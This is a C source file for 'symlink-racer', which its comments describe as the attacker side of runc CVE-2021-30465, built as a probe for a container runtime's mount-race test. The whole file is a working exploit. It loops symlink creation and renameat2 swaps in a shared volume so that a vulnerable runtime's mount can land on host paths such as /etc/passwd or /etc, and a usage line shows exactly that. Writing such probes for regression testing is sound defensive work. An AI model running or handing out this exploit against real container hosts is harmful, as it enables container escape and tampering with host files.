/*
 * symlink-racer — the attacker of runc CVE-2021-30465, as a probe for test/runtime/mount-race.test.ts.
 *
 * Runs inside a container that shares a volume with the victim containers. In DIR (the volume) it
 * flips two names for as long as it lives, as fast as it can:
 *   DIR/file  — absent ↔ a symlink to HOST_FILE (a host path, meaningless inside this container)
 *   DIR/dir   — a real directory ↔ a symlink to HOST_DIR (swapped atomically with renameat2
 *               RENAME_EXCHANGE, so `dir` always exists)
 * A runtime that checks a mount target by path and then acts on the same path again (creates the
 * missing file, makes a directory, mounts) can be steered between the two steps onto HOST_FILE or
 * into HOST_DIR on the host. It writes "ready" to DIR/racer-ready once the loop runs, and stops
 * when DIR/racer-stop appears, writing the number of rounds it flipped to DIR/racer-rounds.
 *
 * Try: symlink-racer /tmp/v /etc/passwd /etc & ls -l /tmp/v  (file and dir flicker)
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void path_in(char *out, size_t size, const char *dir, const char *name) {
	snprintf(out, size, "%s/%s", dir, name);
}

int main(int argc, char **argv) {
	if (argc != 4) {
		fprintf(stderr, "usage: symlink-racer DIR HOST_FILE HOST_DIR\n");
		return 2;
	}
	const char *dir = argv[1];
	char file[4096], real_dir[4096], link_dir[4096], stop[4096], ready[4096];
	path_in(file, sizeof file, dir, "file");
	path_in(real_dir, sizeof real_dir, dir, "dir");
	path_in(link_dir, sizeof link_dir, dir, "dir.link");
	path_in(stop, sizeof stop, dir, "racer-stop");
	path_in(ready, sizeof ready, dir, "racer-ready");
	char rounds_file[4096];
	path_in(rounds_file, sizeof rounds_file, dir, "racer-rounds");
	mkdir(real_dir, 0755);
	unlink(link_dir);
	if (symlink(argv[3], link_dir) != 0) {
		perror("symlink dir.link");
		return 1;
	}
	int fd = open(ready, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "ready\n", 6) != 6) {
		perror("racer-ready");
		return 1;
	}
	close(fd);
	for (unsigned long round = 0;; round++) {
		(void)symlink(argv[2], file);
		(void)syscall(SYS_renameat2, AT_FDCWD, real_dir, AT_FDCWD, link_dir, RENAME_EXCHANGE);
		(void)unlink(file);
		(void)syscall(SYS_renameat2, AT_FDCWD, real_dir, AT_FDCWD, link_dir, RENAME_EXCHANGE);
		if ((round & 1023) == 0 && access(stop, F_OK) == 0) {
			FILE *out = fopen(rounds_file, "w");
			if (out == NULL || fprintf(out, "%lu\n", round) < 0 || fclose(out) != 0) {
				perror("racer-rounds");
				return 1;
			}
			return 0;
		}
	}
}
